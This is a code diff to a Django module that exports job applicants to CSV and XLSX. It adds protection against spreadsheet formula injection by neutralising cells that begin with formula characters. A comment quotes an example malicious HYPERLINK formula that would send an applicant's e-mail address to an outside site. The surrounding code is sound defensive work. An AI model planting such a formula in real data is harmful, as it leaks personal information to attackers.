@@ -2,17 +2,41 @@
 
 import csv
 import io
+import itertools
 
 from django.http import HttpResponse
 from django.utils import timezone
 from django.utils.translation import gettext as _
 from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
 
 from . import labels
 from .rules import sensitive_reads
 from .selectors import job_requirements
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+# A cell starting with one of these is read as a formula by Excel, WPS and LibreOffice (OWASP, "CSV
+# Injection"): an applicant named =HYPERLINK("http://…/?x="&B2,"点击") would be a link that sends the
+# e-mail address next to it to that site. Such text is prefixed with ' and so shown as typed, never evaluated.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cell_text(value):
+    """The value as an export writes it: text that a spreadsheet would evaluate is neutralised; numbers,
+    dates and None are left as they are (a score stays a number)."""
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
+def _xlsx_cell(sheet, value):
+    if not isinstance(value, str):
+        return value
+    cell = WriteOnlyCell(sheet, value=value)
+    # openpyxl itself makes a formula of text starting with = and an error cell of "#N/A": text stays text
+    cell.data_type = "s"
+    return cell
 
 
 def _sensitive(condition: dict) -> bool:
@@ -46,19 +70,19 @@ def job_rows(*, job, applications) -> tuple[list[str], list[list]]:
 
 
 def response(header: list[str], rows: list[list], *, fmt: str, filename: str) -> HttpResponse:
+    """The export file; every cell goes through cell_text, whatever the format."""
+    cells = ([cell_text(v) for v in row] for row in itertools.chain([header], rows))
     if fmt == "csv":
         buf = io.StringIO()
         buf.write("\ufeff")  # Excel reads UTF-8 Chinese correctly only with the BOM
         writer = csv.writer(buf)
-        writer.writerow(header)
-        writer.writerows(rows)  # csv writes None as an empty field
+        writer.writerows(cells)  # csv writes None as an empty field
         resp = HttpResponse(buf.getvalue(), content_type="text/csv; charset=utf-8")
     else:
         book = Workbook(write_only=True)
         sheet = book.create_sheet(_("申请人"))
-        sheet.append(header)
-        for row in rows:
-            sheet.append(row)
+        for row in cells:
+            sheet.append([_xlsx_cell(sheet, v) for v in row])
         out = io.BytesIO()
         book.save(out)
         resp = HttpResponse(out.getvalue(), content_type=XLSX)
